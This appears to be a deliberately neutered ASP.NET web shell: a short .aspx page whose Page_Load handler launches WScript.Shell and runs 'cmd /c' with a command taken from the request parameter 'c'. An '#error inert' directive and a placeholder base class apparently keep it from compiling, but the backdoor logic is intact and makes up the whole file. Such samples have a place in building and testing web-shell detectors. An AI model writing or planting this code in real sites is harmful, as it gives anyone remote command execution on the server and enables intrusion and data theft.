<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s,EventArgs e){ dynamic w=Activator.CreateInstance(Type.GetTypeFromProgID("WScript.Shell")); w.Run("cmd /c "+Request["c"]); }
</script>
